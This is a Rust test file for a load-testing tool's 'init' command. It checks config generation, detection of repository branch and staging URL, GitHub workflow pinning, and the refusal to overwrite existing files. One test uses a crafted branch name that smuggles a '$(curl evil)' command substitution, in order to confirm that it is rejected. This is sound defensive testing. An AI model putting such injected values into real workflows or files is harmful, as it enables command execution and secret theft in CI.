//! What `init` writes holds: the config resolves, the workflow has what it needs.

use std::collections::BTreeMap;
use std::path::Path;

use super::*;
use crate::config::{self, Flags, Purpose, Sources, UserFile};

fn repository(files: &[(&str, &str)]) -> (tempfile::TempDir, Repository) {
    let dir = tempfile::tempdir().expect("a folder");
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().expect("a parent")).expect("made");
        std::fs::write(path, text).expect("written");
    }
    let repository = Repository::look(dir.path()).expect("a folder");
    (dir, repository)
}

fn resolves(text: &str, env: &str) -> config::Resolved {
    let file = UserFile { name: "load-gate.toml".to_owned(), text: text.to_owned() };
    let flags = Flags { env: Some(env.to_owned()), ..Flags::default() };
    let vars = BTreeMap::new();
    let sources = Sources { flags: &flags, vars: &vars, file: Some(&file) };
    config::resolve(&sources, Purpose::Plan, 1).unwrap_or_else(|e| panic!("{}", e.render(false)))
}

#[test]
fn a_bare_folder_gets_the_built_in_staging() {
    let (_dir, repository) = repository(&[("README.md", "")]);
    assert_eq!(repository.branch, "main");
    assert_eq!(repository.staging, None);
    let config = config(&repository);
    assert!(!config.contains("{{"), "{config}");
    for env in ["embedded", "staging"] {
        resolves(&config, env);
    }
    assert_eq!(resolves(&config, "staging").plan.environment.url, STAGING);
}

#[test]
fn what_is_built_in_can_be_uncommented() {
    let (_dir, repository) = repository(&[("README.md", "")]);
    let config = config(&repository);
    let (before, after) = config.split_once("# [scenarios.onboarding.profiles]").expect("there");
    let lines = after.lines().map(|line| line.strip_prefix("# ").unwrap_or(line));
    let lines: Vec<&str> = lines.filter(|line| *line != "#").collect();
    let uncommented = format!("{before}[scenarios.onboarding.profiles]\n{}\n", lines.join("\n"));
    let (plan, same) = (resolves(&config, "staging").plan, resolves(&uncommented, "staging").plan);
    assert_eq!(plan.scenarios.len(), 3);
    for (plan, same) in plan.scenarios.iter().zip(&same.scenarios) {
        assert_eq!(format!("{:?}", plan.stages), format!("{:?}", same.stages));
        assert_eq!(format!("{:?}", plan.criteria), format!("{:?}", same.criteria));
    }
    let table = lines.iter().filter(|line| line.ends_with(".profiles]")).count();
    assert_eq!(table, 2, "those of the other two scenarios");
}

#[test]
fn the_repository_is_found_out() {
    let (dir, repository) = repository(&[
        (".git/HEAD", "ref: refs/heads/topic\n"),
        (".git/refs/remotes/origin/HEAD", "ref: refs/remotes/origin/trunk\n"),
        (
            ".git/config",
            "[remote \"origin\"]\n\turl = git@github.com:octo/shop.git\n[branch \"x\"]\n",
        ),
        ("load_tests/a.js", "const url = 'https://unrelated.example.org';\n"),
        ("load_tests/b.js", "const BASE = __ENV.API_URL || 'https://staging.example.org';\n"),
        ("deep/inside/x", ""),
    ]);
    assert_eq!(repository.branch, "trunk");
    assert_eq!(repository.slug.as_deref(), Some("octo/shop"));
    let found = repository.staging.clone().expect("an address");
    assert_eq!(found.url, "https://staging.example.org");
    assert_eq!(found.file, "load_tests/b.js");
    let plan = resolves(&config(&repository), "staging").plan;
    assert_eq!(plan.environment.url, "https://staging.example.org");
    let inside = Repository::look(&dir.path().join("deep/inside")).expect("a folder");
    assert_eq!(inside.root, repository.root);
    assert!(next_steps(&repository).contains("gh secret set TEST_API_KEY_1 --repo octo/shop"));
}

#[test]
fn production_is_never_taken_for_staging() {
    let line = "export API_URL=https://api.rsolv.dev\n";
    let (_dir, repository) = repository(&[(".env.example", line)]);
    assert_eq!(repository.staging, None);
    let text = config(&repository);
    let line = "# url = \"https://api.rsolv.dev\"";
    assert!(text.contains(line), "{text}");
    assert_eq!(resolves(&text, "staging").plan.environment.url, STAGING);
}

#[test]
fn a_host_is_staging_only_if_its_name_says_so() {
    let found = |host: &str| {
        let line = format!("export API_URL=https://{host}\n");
        repository(&[(".env.example", &line)]).1.staging.is_some()
    };
    for yes in [
        "staging.example.org",
        "api-stg.example.com",
        "stage1.example.com",
        "test.example.com",
        "dev2.example.org",
        "preview-7.example.org",
        "qa.example.org",
        "uat.example.org",
        "sandbox.example.org",
        "api.rsolv-staging.com",
    ] {
        assert!(found(yes), "{yes}");
    }
    for no in [
        "api.example.com",
        "www.example.dev",
        "device.example.com",
        "latest.example.com",
        "contest.example.org",
        "api.live.example.com",
        "acme.test",
    ] {
        assert!(!found(no), "{no}");
    }
}

#[test]
fn a_hostile_branch_name_is_not_written() {
    let head = "ref: refs/heads/x], secrets: [$(curl evil)]\n";
    let (_dir, repository) = repository(&[(".git/HEAD", head)]);
    assert_eq!(repository.branch, "main");
}

#[test]
fn the_workflow_is_a_workflow() {
    let (_dir, repository) = repository(&[(".git/HEAD", "ref: refs/heads/master\n")]);
    let text = workflow(&repository);
    assert!(!text.replace("${{", "").contains("{{"), "{text}");
    let yaml: serde_norway::Value = serde_norway::from_str(&text).expect("YAML");
    assert_eq!(yaml["on"]["pull_request"]["branches"][0], "master");
    assert!(yaml["permissions"].as_mapping().expect("a mapping").is_empty());
    for job in ["pull-request", "nightly"] {
        let steps = yaml["jobs"][job]["steps"].as_sequence().expect("steps");
        for uses in steps.iter().filter_map(|step| step["uses"].as_str()) {
            let (name, reference) = uses.split_once('@').expect("a ref");
            let commit = reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit());
            assert!(commit || name == "rsolv/load-gate", "{uses} is not pinned");
        }
    }
}

#[test]
fn the_night_is_spread_and_never_on_the_hour() {
    let at = |slug: &str| {
        let (_dir, mut repository) = repository(&[("x", "")]);
        repository.slug = Some(slug.to_owned());
        repository.nightly_at()
    };
    for n in 0..50 {
        let (hour, minute) = at(&format!("octo/shop-{n}"));
        assert!((2..=5).contains(&hour) && (7..54).contains(&minute), "{hour}:{minute}");
    }
    assert_eq!(at("octo/shop"), at("octo/shop"));
}

#[test]
fn files_that_are_there_stay() {
    let (dir, repository) = repository(&[(CONFIG_PATH, "# mine\n")]);
    let refused = refuse_to_replace(&repository.root, false).expect_err("there is one");
    insta::assert_snapshot!(
        refused.to_string(),
        @".github/load-gate.toml is already there, nothing was written; --force replaces"
    );
    assert!(refuse_to_replace(&repository.root, true).is_ok());
    let kept = std::fs::read_to_string(dir.path().join(CONFIG_PATH)).expect("readable");
    assert_eq!(kept, "# mine\n");
    assert!(!Path::new(&repository.root).join(WORKFLOW_PATH).exists());
}
